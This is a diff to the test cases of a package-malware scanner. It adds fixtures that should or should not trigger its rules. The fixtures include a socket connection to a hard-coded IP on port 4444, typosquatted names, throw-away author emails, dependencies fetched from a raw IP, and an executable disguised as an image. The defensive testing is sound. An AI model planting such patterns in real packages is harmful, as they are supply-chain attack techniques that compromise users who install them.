@@ -10,7 +10,7 @@ import time
 
 import pytest
 
-from verdict.fixtures import composer_bytes, crate_bytes, gem_bytes, npm, sdist
+from verdict.fixtures import composer_bytes, crate_bytes, elf, gem_bytes, npm, sdist
 from pkgtrace.model import Ecosystem
 from pkgtrace.verdict import load_rules
 from pkgtrace.verdict.metadata import popular
@@ -204,6 +204,11 @@ CASES = [
     ("STATIC-ENCODED-URL",
      (P, "pkg", sdist("pkg", module(f'U = "{b64("https://bit.ly/3example")}"'))),
      (P, "pkg", sdist("pkg", module(f'U = "{b64("a plain sentence of text")}"')))),
+    # learning the local address through a public resolver sends nothing (isage-common); a
+    # hard-coded server elsewhere, even on a line that also names a resolver, still fires
+    ("STATIC-HARDCODED-IP-URL",
+     (P, "pkg", sdist("pkg", module('import socket\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))  # 8.8.8.8'))),
+     (P, "pkg", sdist("pkg", module('import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(("8.8.8.8", 80))\nip = s.getsockname()[0]')))),
     # ---- metadata ----
     ("META-TYPOSQUAT",
      (P, "reqeusts", sdist("reqeusts", module("X = 1"))),
@@ -226,6 +231,35 @@ CASES = [
     ("META-SHADOWS-POPULAR-MODULE",
      (P, "netutils-extra", sdist("netutils-extra", {"setup.py": SETUP_TAIL, "requests/__init__.py": "X = 1"})),
      (P, "requests", sdist("requests", {"setup.py": SETUP_TAIL, "requests/__init__.py": "X = 1"}))),
+    # a close typosquat (word swap in a long name) is high on its own; a real package is silent
+    ("META-TYPOSQUAT",
+     (N, "loadsh", npm("loadsh", {"index.js": ""})),
+     (N, "lodash", npm("lodash", {"index.js": ""}))),
+    # throw-away mailbox; the look-alike is a real author address at a mail provider (psutil's)
+    ("META-THROWAWAY-EMAIL",
+     (P, "pkg", sdist("pkg", module("X = 1"), headers="Author-email: Dev <dev7731@mailinator.com>\n")),
+     (P, "pkg", sdist("pkg", module("X = 1"), headers="Author-email: Giampaolo Rodola <g.rodola@gmail.com>\n"))),
+    ("META-THROWAWAY-EMAIL",
+     (N, "jspkg", npm("jspkg", {"index.js": ""}, extra={"author": "x <x@yopmail.com>"})),
+     (N, "jspkg", npm("jspkg", {"index.js": ""}, extra={"author": "Sindre Sorhus <sindresorhus@gmail.com> (https://sindresorhus.com)"}))),
+    ("META-THROWAWAY-EMAIL",
+     (P, "pkg", sdist("pkg", module("X = 1"), headers="Author-email: test@test.com\n")),
+     (P, "pkg", sdist("pkg", module("X = 1"), headers="Author-email: Kenneth Reitz <me@kennethreitz.org>\n"))),
+    # dependencies from an address, not the registry; look-alikes: ordinary pins, npm's file:
+    ("META-URL-DEPENDENCY",
+     (P, "pkg", sdist("pkg", {"setup.py": "from setuptools import setup\nsetup(name='pkg', install_requires=['helper @ http://203.0.113.7/helper-1.0.tar.gz'])\n", "pkg/__init__.py": ""})),
+     (P, "pkg", sdist("pkg", {"setup.py": "from setuptools import setup\nsetup(name='pkg', install_requires=['requests>=2.31', 'urllib3<3'])\n", "pkg/__init__.py": ""}))),
+    ("META-URL-DEPENDENCY",
+     (N, "jspkg", npm("jspkg", {"index.js": ""}, extra={"dependencies": {"helper": "http://203.0.113.7/helper.tgz"}})),
+     (N, "jspkg", npm("jspkg", {"index.js": ""}, extra={"dependencies": {"debug": "^4.3.4", "local": "file:./local"},
+                                                        "devDependencies": {"x": "github:user/x"}}))),
+    # a program named as an image; the look-alike is a compiled extension module (a library)
+    ("META-BUNDLED-BINARY",
+     (P, "pkg", sdist("pkg", module("X = 1"), binary={"pkg/logo.png": elf(2)})),
+     (P, "pkg", sdist("pkg", module("X = 1"), binary={"pkg/_speedups.cpython-311-x86_64-linux-gnu.so": elf(3)}))),
+    ("META-BUNDLED-BINARY",
+     (N, "jspkg", npm("jspkg", {"index.js": ""}, binary={"lib/data.json": elf(2)})),
+     (N, "jspkg", npm("jspkg", {"index.js": ""}, binary={"prebuilds/linux-x64/addon.node": elf(3)}))),
     ("COMBO-TYPOSQUAT-INSTALL-NETWORK",
      (P, "reqeusts", sdist("reqeusts", setup_py('import requests\nrequests.get("https://stats.example/ping")'))),
      (P, "reqeusts", sdist("reqeusts", setup_py("import os\nprint(os.getcwd())")))),
